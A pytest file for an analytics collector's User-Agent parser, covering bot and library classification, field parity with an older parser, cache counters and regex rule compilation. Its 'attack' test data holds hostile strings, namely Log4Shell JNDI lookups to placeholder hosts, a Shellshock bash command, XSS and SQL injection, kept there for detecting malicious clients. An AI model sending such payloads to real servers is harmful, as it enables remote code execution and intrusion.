"""The User-Agent parser: the same minimised fields as the parser it replaced, one test per
bot class and per library class, hostile strings, the bounded cache and its counters, and
the rule lists compiled for the Rust engine (look-arounds included)."""

from __future__ import annotations

from pathlib import Path

import pytest
import regex
import user_agents

from collector.ingest import uapatterns, uarules
from collector.ingest.clients import APP, BOT, BROWSER, LIBRARY, UNKNOWN, bot_class
from collector.ingest.useragent import MAX_UA, UAParser, default_parser, parse_uncached
from collector.metrics import Metrics

ROOT = Path(__file__).resolve().parents[2]
CORPORA = ROOT / "tests" / "eval" / "corpora"
PARSER = default_parser()


def _lines(name: str) -> list[str]:
    return [line for line in (CORPORA / name).read_text(encoding="utf-8").splitlines() if line.strip()]


def _reference(text: str) -> tuple[str | None, str | None, str | None, str]:
    """What ``collector.ingest.useragent`` stored before: ``user_agents.parse``, reduced."""
    ua = user_agents.parse(text)
    version = ua.browser.version

    def known(name: str) -> str | None:
        return None if not name or name == "Other" else name

    if ua.is_bot:
        device = "bot"
    elif ua.is_tablet:
        device = "tablet"
    elif ua.is_mobile:
        device = "mobile"
    elif ua.is_pc:
        device = "desktop"
    else:
        device = "other"
    return known(ua.browser.family), str(version[0]) if version else None, known(ua.os.family), device


def _fields(text: str) -> tuple[str | None, str | None, str | None, str]:
    info = parse_uncached(text)
    return info.browser, info.browser_major, info.os, info.device


# -- the same minimised fields as user_agents --------------------------------------------------
@pytest.mark.parametrize("corpus", ["intoli-user-agents.txt", "top-user-agents.txt"])
def test_real_browsers_get_the_fields_the_old_parser_gave(corpus: str) -> None:
    """Real browsers' User-Agents (tests/eval/corpora/README.md): browser family, major
    version, OS and device class are what ``user_agents`` gave, every one."""
    differences = [text for text in _lines(corpus) if _fields(text) != _reference(text)]
    assert differences == []


def test_on_isbot_s_browser_list_only_the_kind_changes_the_fields() -> None:
    """isbot's list of non-bots holds odd clients too. Where the fields differ from
    ``user_agents``' it is because the collector now tells the kind better, and only so:

    - device ``bot`` where ``user_agents`` said a device (Matomo's bot list, the
      collector's scanners and injection strings, the ``imitation`` rule);
    - a library's name as the browser family (``PS4Application libhttp/1.000``: Matomo's
      ``LibHTTP``), device ``other``;
    - a browser where ``user_agents`` said bot: uap-core's ``Spider`` rule is not taken on a
      string that ua-parser reads as a browser's (``MSIE 9.0; …; Banca Caboto s.p.a.``).
    Browser family, version and OS of everything else are unchanged."""
    for text in _lines("isbot-browsers.txt"):
        ours, before = _fields(text), _reference(text)
        if ours == before:
            continue
        kind = parse_uncached(text).client
        if kind == BOT:
            assert ours[3] == "bot" and ours[:3] == before[:3], text
        elif kind == LIBRARY:
            assert ours[3] == "other", text
        else:  # uap-core's Spider rule on a browser's string ("MSIE 9.0; …; Banca Caboto")
            assert kind == BROWSER and before[3] == "bot" and ours[:3] == before[:3], text


# -- bots, one test per class ------------------------------------------------------------------
BOTS: dict[str, list[str]] = {
    "crawler": [
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
        "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
        "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
        # AI crawlers that Matomo files as crawlers and search bots
        "CCBot/2.0 (https://commoncrawl.org/faq/)",
        "Mozilla/5.0 (Linux; Android 5.0) AppleWebKit/537.36 (KHTML, like Gecko) Mobile Safari/537.36 "
        "(compatible; Bytespider; spider-feedback@bytedance.com)",
    ],
    "ai": [
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)",
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ClaudeBot/1.0; "
        "+claudebot@anthropic.com)",
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; PerplexityBot/1.0; "
        "+https://perplexity.ai/perplexitybot)",
        "meta-externalagent/1.1 (+https://developers.facebook.com/docs/sharing/webmasters/crawler)",
    ],
    "headless": [
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/130.0.0.0 "
        "Safari/537.36",
        "Mozilla/5.0 (Unknown; Linux x86_64) AppleWebKit/538.1 (KHTML, like Gecko) PhantomJS/2.1.1 "
        "Safari/538.1",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 "
        "Safari/537.36 Selenium/4.16",
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 "
        "Safari/537.36 Playwright/1.40",
        "Mozilla/5.0 (linux) AppleWebKit/537.36 (KHTML, like Gecko) jsdom/22.1.0",
    ],
    "monitor": [
        "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
        "Mozilla/5.0 (compatible; Pingdom.com_bot_version_1.4_(http://www.pingdom.com/))",
        "Mozilla/5.0 (compatible; StatusCake)",
        "NewRelicPinger/1.0 (1234567)",
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 "
        "Safari/537.36 DatadogSynthetics",
    ],
    "scanner": [
        "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)",
        "sqlmap/1.7.2#stable (https://sqlmap.org)",
        "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
        "Fuzz Faster U Fool v2.1.0-dev",
        "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
    ],
    "attack": [
        "${jndi:ldap://203.0.113.9/a}",
        "Mozilla/5.0 ${jndi:dns://x.example/a}",
        "() { :; }; /bin/bash -c 'id'",
        "<script>alert(1)</script>",
        "Mozilla/5.0' OR 1=1 --",
    ],
    "not_a_client": [
        "test",
        "Mozilla",
        "admin@example.com",
        "https://example.com/contact",
        "Mozilla/5.0",
        "a\x00b",  # control characters
        "x\udc80y",  # not valid Unicode (a lone surrogate)
    ],
    "imitation": ["Mozilla/5.0 (compatible; Zorgon/1.0)", "Mozilla/4.0 (Hydra)"],
}


@pytest.mark.parametrize("cls", list(BOTS))
def test_each_bot_class_is_a_bot(cls: str) -> None:
    for text in BOTS[cls]:
        info, client = PARSER.parse_with_client(text)
        assert (info.client, info.device, info.is_bot) == (BOT, "bot", True), text
        if cls != "not_a_client" or text.isprintable():
            assert bot_class(client) == cls, (text, client)


# -- libraries, one test per class -------------------------------------------------------------
LIBRARIES: dict[str, list[tuple[str, str, str | None]]] = {
    "python": [
        ("python-requests/2.22.0", "Python Requests", "2"),  # matomo-sdk-py's
        ("Python-urllib/3.11", "Python urllib", "3"),
        ("Python/3.11 aiohttp/3.9.1", "aiohttp", "3"),
        ("python-httpx/0.28.1", "HTTPX", "0"),
    ],
    "node": [
        ("node-fetch/1.0 (+https://github.com/bitinn/node-fetch)", "Node Fetch", "1"),
        ("axios/1.6.0", "Axios", "1"),
        ("node", "Node.js fetch", None),
        ("undici", "Node.js fetch", None),
    ],
    "jvm": [
        ("okhttp/4.12.0", "OkHttp", "4"),
        ("Java/17.0.2", "Java", "17"),
        ("Apache-HttpClient/4.5.14 (Java/17.0.2)", "Apache HTTP Client", "4"),
    ],
    "go": [("Go-http-client/1.1", "Go-http-client", "1"), ("Go-http-client/2.0", "Go-http-client", "2")],
    "command line": [
        ("curl/8.5.0", "curl", "8"),
        ("Wget/1.21.4", "Wget", "1"),
        ("HTTPie/3.2.2", "HTTPie", "3"),
    ],
    "perl": [("libwww-perl/6.67", "Perl", "6")],
    "php": [("GuzzleHttp/7.8.1", "Guzzle (PHP HTTP Client)", "7")],
    "ruby": [("Faraday v2.7.11", "Faraday", "2")],
    "unnamed program": [("Monit/5.23.0", "", None), ("InternalCronJob/2.1", "", None)],
}


@pytest.mark.parametrize("cls", list(LIBRARIES))
def test_each_library_class_is_a_counted_library(cls: str) -> None:
    for text, name, major in LIBRARIES[cls]:
        info = parse_uncached(text)
        assert (info.client, info.is_bot, info.device) == (LIBRARY, False, "other"), text
        assert (info.browser or "", info.browser_major) == (name, major), text


# -- people stay people ---------------------------------------------------------------------
PEOPLE = [
    # a Cubot phone: Matomo's generic rule excludes "cubot", and so does its relaxed form here
    "Mozilla/5.0 (Linux; Android 10; CUBOT_X30) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/120.0.0.0 Mobile Safari/537.36",
    # an in-app browser, an Electron app
    "Mozilla/5.0 (Linux; Android 14; Pixel 8 Build/UD1A.230803.041; wv) AppleWebKit/537.36 (KHTML, like "
    "Gecko) Version/4.0 Chrome/120.0.6099.144 Mobile Safari/537.36 [FB_IAB/FB4A;FBAV/444.0.0.0.110;]",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Slack/4.35.131 "
    "Chrome/120.0.6099.56 Electron/28.0.0 Safari/537.36",
    # apps: a feed reader, an Android app's HTTP stack, an iOS app
    "Reeder/3.2 CFNetwork/672.1.12 Darwin/14.0.0",
    "Dalvik/2.1.0 (Linux; U; Android 11; Pixel 5 Build/RQ3A.210805.001.A1)",
    "MyShop/3.1 (iPhone; iOS 17.2; Scale/3.00)",
]


@pytest.mark.parametrize("text", PEOPLE)
def test_browsers_and_apps_are_counted_with_the_old_fields(text: str) -> None:
    info = parse_uncached(text)
    assert info.client in (BROWSER, APP) and not info.is_bot
    assert _fields(text) == _reference(text)


def test_no_user_agent_is_counted_as_an_unknown_client() -> None:
    """Server-side SDKs and old Node clients send none; Matomo counts them, so do we."""
    info = parse_uncached("")
    assert (info.client, info.device, info.is_bot, info.browser) == (UNKNOWN, "other", False, None)


# -- hostile strings ---------------------------------------------------------------------------
def test_a_long_string_is_cut_before_it_is_parsed_or_cached() -> None:
    parser = UAParser(max_entries=4)
    head = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    first = parser.parse(head + "x" * 10_000)
    second = parser.parse(head + "x" * 20_000 + "Googlebot")  # differs only past the cut
    assert first is second and (parser.hits, parser.misses) == (1, 1)
    assert len(next(iter(parser._cache))) == MAX_UA


@pytest.mark.parametrize(
    "text",
    [
        "\x00" * 600,
        "\udcff" * 600,
        "Mozilla/5.0 (" + "(" * 5000,
        "a" * 500 + "bot",
        "cubot " * 200,
        "\u202e\u0000Mozilla/5.0",
        "Mozilla/5.0 " + "é" * 600,
    ],
)
def test_hostile_strings_get_an_answer(text: str) -> None:
    info = parse_uncached(text)
    assert info.device in ("desktop", "mobile", "tablet", "bot", "other")


# -- the cache and its counters ----------------------------------------------------------------
def test_the_cache_is_capped_and_counts_into_metrics() -> None:
    metrics = Metrics()
    parser = UAParser(max_entries=3, metrics=metrics)
    for n in range(5):
        parser.parse(f"curl/8.{n}.0")
    parser.parse("curl/8.4.0")
    parser.parse("curl/8.0.0")  # evicted: parsed again
    assert len(parser) == 3
    assert (metrics.ua_cache_hits, metrics.ua_cache_misses, metrics.ua_cache_entries) == (1, 6, 3)
    text = metrics.render()
    assert "collector_ua_cache_hits_total 1\n" in text
    assert "collector_ua_cache_misses_total 6\n" in text
    assert "collector_ua_cache_hit_ratio 0.1429\n" in text
    assert "collector_ua_cache_entries 3\n" in text


# -- the rule lists ----------------------------------------------------------------------------
def test_the_bot_and_library_lists_compile_whole() -> None:
    skipped = PARSER.clients.skipped
    assert {name: found for name, found in skipped.items() if name != "matomo browsers"} == {
        name: [] for name in skipped if name != "matomo browsers"
    }


def test_the_collector_data_file_has_only_known_sections() -> None:
    sections = set(uarules.collector_rules())
    assert sections == {
        "bot:headless",
        "bot:monitor",
        "bot:scanner",
        "bot:attack",
        "library",
        "bot:not_a_client",
        "platform",
        "engine",
    }


def test_alternatives_split_at_the_top_or_in_one_group() -> None:
    assert uapatterns.split_alternatives("a|b(?:c|d)") == ["a", "b(?:c)", "b(?:d)"]
    assert uapatterns.split_alternatives("[a-z]*(?:x|y[|])(?:[^a-z]|$)") == [
        "[a-z]*(?:x)(?:[^a-z]|$)",
        "[a-z]*(?:y[|])(?:[^a-z]|$)",
    ]
    assert uapatterns.split_alternatives("(?:a|b)?c") == ["(?:a|b)?c"]  # a quantified group stays


def test_a_negative_look_around_becomes_a_relaxed_pattern_and_its_excluded_contexts() -> None:
    assert uapatterns.relax("(?<!cu|Hu)bot(?![ _]TAB)") == ("bot", ["(?:cu|Hu)bot", "bot(?:[ _]TAB)"])
    assert uapatterns.relax("(?<!HTC)[ _]Butterfly/") == ("[ _]Butterfly/", ["(?:HTC)[ _]Butterfly/"])
    assert uapatterns.relax("zeal(?!ot)") == ("zeal", ["zeal(?:ot)"])
    assert uapatterns.relax("(?=x)y") is None  # positive: not needed by Matomo's lists


def test_matomo_s_look_around_rules_answer_as_matomo_does_on_every_corpus() -> None:
    """The look-around rules of Matomo's bot list, on the Rust engine, against the same
    patterns on Python's ``regex`` (what device-detector runs): the same answer for every
    User-Agent of the corpora. (The relaxed form may only differ by not matching a string
    that holds an excluded and an accepted occurrence of one alternative; none here.)"""
    rules = [r for r in uarules.matomo_bots() if "(?<!" in r.pattern or "(?!" in r.pattern]
    assert rules, "Matomo's list has look-around rules"
    ours = uarules.RuleSet(rules)
    exact = [regex.compile(uarules.BOUNDED.format(r.pattern), regex.IGNORECASE) for r in rules]
    texts = [t[:MAX_UA] for path in sorted(CORPORA.glob("*.txt")) for t in _lines(path.name)]
    differ = [t for t in texts if (ours.match(t) is not None) != any(p.search(t) for p in exact)]
    assert differ == []
